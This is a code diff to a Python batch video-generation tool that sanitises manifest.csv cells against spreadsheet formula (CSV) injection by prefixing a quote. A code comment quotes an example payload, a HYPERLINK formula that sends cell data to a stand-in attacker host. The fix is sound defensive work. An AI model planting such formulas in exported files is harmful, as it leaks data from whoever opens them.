@@ -679,13 +679,26 @@ def _video_name(item: BatchItem, taken: set[str]) -> str:
     return name
 
 
+# A spreadsheet reads a cell starting with one of these as a formula: a prompt such as
+# `=HYPERLINK("http://evil.example/?"&A1)` would run when someone opens manifest.csv (OWASP's
+# "CSV injection"). A leading `'` makes it text again, shown as written.
+_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _as_text(cell: Any) -> Any:
+    if isinstance(cell, str) and cell.startswith(_FORMULA_STARTS):
+        return "'" + cell
+    return cell
+
+
 def _manifest_row(item: BatchItem, file: str) -> dict[str, Any]:
-    """One job's line of manifest.csv (`file` is empty when the zip has no video of it)."""
+    """One job's line of manifest.csv (`file` is empty when the zip has no video of it); every
+    cell a spreadsheet would take for a formula is kept as text."""
     job = item.job
     params = dict(job.params)
     began = job.started_at or job.submitted_at
     took = job.finished_at - began if job.finished_at and began else None
-    return {
+    row = {
         "file": file, "job_id": job.id, "position": item.position or "", "state": job.state,
         "task": job.task, "image": item.files.get("image", ""), "audio": item.files.get("audio", ""),
         "prompt": params.pop("prompt", ""), "negative_prompt": params.pop("negative_prompt", ""),
@@ -695,3 +708,4 @@ def _manifest_row(item: BatchItem, file: str) -> dict[str, Any]:
         "seconds": f"{took:.1f}" if took is not None else "", "error": job.error or "",
         "retry_of": item.retry_of or "",
     }
+    return {name: _as_text(cell) for name, cell in row.items()}
